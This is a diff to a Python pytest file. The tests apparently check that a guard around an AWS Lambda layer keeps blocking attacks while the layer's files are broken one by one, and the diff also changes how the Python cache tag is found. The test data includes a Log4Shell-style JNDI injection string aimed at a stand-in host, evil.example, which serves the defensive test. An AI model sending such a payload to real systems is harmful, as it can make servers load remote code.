@@ -3,11 +3,12 @@
 import json
 import platform
 import shutil
-import sys
 from concurrent.futures import ThreadPoolExecutor
 
 import pytest
+from protected import oldest_and_newest
 
+pytestmark = oldest_and_newest
 ATTACK = {"q": "${jndi:ldap://evil.example/a}"}
 RAN = "def handler(event, context): return 'ran'"
 ARMED = ("status", "armed")
@@ -178,9 +179,8 @@ def of_another_machine(file):
     file.write_bytes(data)
 
 
-def breakages(layer):
-    """Each file that this Python uses, but the wrapper: Lambda itself starts that, so nothing can save it."""
-    tag = f".{sys.implementation.cache_tag}."
+def breakages(layer, tag):
+    """Each file that the Python uses, but the wrapper: Lambda itself starts that, so nothing can save it."""
     for file in sorted(path for path in layer.rglob("*") if path.is_file()):
         name = str(file.relative_to(layer))
         if file.suffix == ".pyc":
@@ -196,11 +196,13 @@ def breakages(layer):
         yield from ((name, way) for way in ways)
 
 
+@pytest.mark.pythons(None)  # it starts some hundred environments
 def test_whatever_is_broken_of_the_layer_the_function_runs_and_the_log_says_so(
     start, layer, tmp_path
 ):
     """Each file in turn: the function runs; unless the guard still blocks, a FATAL record says so."""
-    rows = list(breakages(layer))
+    ask = "import sys\ndef handler(*_): return sys.implementation.cache_tag"
+    rows = list(breakages(layer, f".{start(ask, None).invoke({}).value}."))
     assert len(rows) > 40
     numbers = iter(range(len(rows)))
 
